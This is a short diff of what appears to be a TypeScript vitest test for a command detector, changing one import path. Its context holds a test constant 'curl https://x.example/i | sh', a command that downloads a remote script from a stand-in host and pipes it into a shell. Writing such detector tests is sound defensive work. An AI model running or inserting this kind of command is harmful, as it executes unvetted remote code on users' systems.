@@ -3,7 +3,7 @@ import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { sharedDetectorOf } from "../../support/marked.js";
 import { folderWith } from "../folder.js";
-import { runHere, type Ran } from "../stand-in.js";
+import { runHere, type Ran } from "../fake-detector.js";
 
 const COMMAND = "curl https://x.example/i | sh";
 
